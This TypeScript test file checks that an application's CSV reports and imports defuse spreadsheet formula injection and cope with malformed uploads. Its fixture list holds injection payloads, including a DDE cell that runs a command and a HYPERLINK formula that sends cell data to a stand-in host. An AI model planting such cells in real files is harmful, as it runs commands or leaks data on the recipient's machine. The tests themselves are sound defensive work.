import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { partsOf } from '../../api/recording/parse.ts'
import { addFacility } from '../../api/store/organisations/organisations.ts'
import { harmless, readHarmless } from '../../domain/csv.ts'
import { intakeScan } from '../bench/intake.ts'
import { openTestInstallation, type TestInstallation } from '../harness/installation.ts'

/** Cells that a spreadsheet would run, and the ways around a simple check. */
const formulas = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://elsewhere.test/?"&A1,"x")',
  '+1+1',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '＝1+1',
  '＠SUM(1)',
  '=1,"x"\n=2',
]

/** What a spreadsheet takes for the start of a formula, whatever the quotes around the cell. */
const runs = /^[=+\-@\t\r＝＋－＠]/

describe('tables that leave', () => {
  it('hold nothing that a spreadsheet runs, wherever it was typed, and are read back as it was', async () => {
    const installation = await openTestInstallation()
    const { store, actor } = installation
    const now = new Date()
    for (const [index, name] of formulas.entries()) {
      const code = formulas[index]?.replaceAll(/[\n\r\t]/g, ' ') ?? ''
      await addFacility(store.system, actor.organisationKey, { code, name, now })
      // A scan's codes are folded to their plain form, which these are not.
      const isWide = /[＝＠]/.test(code)
      const scan = { ...intakeScan(), facility: isWide ? 'A' : code }
      const [receipt] = await installation.recorder.record(partsOf([scan], actor))
      expect([code, receipt?.status]).toEqual([code, 'accepted'])
    }
    const flow = '/api/v1/reports/flow?from=2026-01-01&to=2027-01-01&groupBy=facility'
    const cells = (await tableOf(installation, flow)).flat()
    expect(cells.filter((cell) => runs.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([])
    const typed = formulas.filter((text) => !/[＝＠]/.test(text))
    const codes = typed.map((text) => text.replaceAll(/[\n\r\t]/g, ' '))
    for (const code of codes) expect(cells.map(readHarmless)).toContain(code)
    expect(
      (await tableOf(installation, '/api/v1/audit')).flat().filter((cell) => runs.test(cell)),
    ).toEqual([])
  })

  it('come back from an import with every cell that was sent, made harmless', async () => {
    const installation = await openTestInstallation()
    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`
    const lines = formulas.map((text) => ['battery', 'weighed', text, text].map(quoted).join(','))
    const body = `stream,stage,facility,operator\n${lines.join('\n')}\n`
    const answer = await installation.request('/api/v1/imports', {
      method: 'POST',
      body,
      headers: { 'content-type': 'text/csv' },
    })
    const rows: string[][] = parse(await answer.text(), { bom: true })
    const cells = rows.slice(1).flat()
    expect(cells.filter((cell) => runs.test(cell))).toEqual([])
    expect(rows.slice(1).map(([, , facility = '']) => readHarmless(facility))).toEqual(formulas)
  })

  it('give each text back as it was, and leave numbers as they are', () => {
    for (const text of [...formulas, '-12.5', 'plain', "'quoted", '']) {
      expect(runs.test(harmless(text)) && !/^-\d/.test(text)).toBe(false)
      if (!text.startsWith("'")) expect(readHarmless(harmless(text))).toBe(text)
    }
  })
})

describe('files that come in broken', () => {
  it.each([
    ['cut in the middle of a row', (table: string) => table.slice(0, -20), 1],
    ['with a byte order mark', (table: string) => `\uFEFF${table}`, 2],
    [
      'with three kinds of line ends',
      (table: string) => table.replace('\n', '\r\n').replace(/\n$/, '\r'),
      2,
    ],
    ['with a quote in the middle of a cell', (table: string) => `${table}bat"tery,weighed\n`, 2],
    ['with a quote that is never closed', (table: string) => `${table}"battery`, 2],
    ['with a row of another width', (table: string) => `${table}battery,weighed\n`, 2],
    ['with rows of nothing', (table: string) => `${table}\n,,,\n\n`, 2],
  ])(
    '%s record the rows that are whole, and say what is wrong with the others',
    async (_, spoil, whole) => {
      const installation = await openTestInstallation()
      const table = await twoRows(installation)
      const answer = await installation.request('/api/v1/imports', {
        method: 'POST',
        body: spoil(table),
        headers: { 'content-type': 'text/csv' },
      })
      expect(answer.status).toBe(200)
      const [header = [], ...rows]: string[][] = parse(await answer.text(), {
        bom: true,
        relax_column_count: true,
      })
      const statuses = rows.map((cells) => cells[header.indexOf('receipt_status')])
      expect(statuses.filter((status) => status === 'accepted')).toHaveLength(whole)
      expect(statuses.filter((status) => status !== 'accepted' && status !== 'refused')).toEqual([])
      const listed = await installation.request('/api/v1/batches')
      const { batches } = (await listed.json()) as { batches: readonly unknown[] }
      expect(batches).toHaveLength(whole)
      expect(installation.logged).toEqual([])
    },
  )

  it('are refused at once when they say that they are too large', async () => {
    const installation = await openTestInstallation()
    const answer = await installation.request('/api/v1/imports', {
      method: 'POST',
      body: 'x',
      headers: { 'content-type': 'text/csv', 'content-length': String(3 * 1024 ** 3) },
    })
    expect(answer.status).toBe(413)
  })
})

/** A table of two packs that come in, as a person would fill the template. */
async function twoRows({ streams }: TestInstallation): Promise<string> {
  if (!streams.has('battery')) throw new Error('Cannot make a table without the stream "battery"')
  const scans = [intakeScan(), intakeScan()].map((scan) => ({ ...scan, facility: 'A' }))
  const rows = scans.map((scan) => flat(scan))
  const header = Object.keys(rows[0] ?? {})
  return [header, ...rows.map((row) => header.map((name) => row[name] ?? ''))]
    .map((cells) => `${cells.join(',')}\n`)
    .join('')
}

function flat(scan: Record<string, unknown>): Record<string, string> {
  const { outputs, facts, eventTime, id, ...rest } = scan
  const [output] = outputs as readonly Record<string, unknown>[]
  const { batch, kind, massGrams, facts: outputFacts } = output ?? {}
  const cells = {
    id,
    ...rest,
    event_time: eventTime,
    output: batch,
    output_kind: kind,
    output_mass_grams: massGrams,
    ...(facts as object),
    ...(outputFacts as object),
  }
  return Object.fromEntries(Object.entries(cells).map(([name, value]) => [name, String(value)]))
}

async function tableOf({ request }: TestInstallation, path: string): Promise<readonly string[][]> {
  const answer = await request(path, { headers: { accept: 'text/csv' } })
  expect(answer.status).toBe(200)
  return parse(await answer.text(), { bom: true })
}
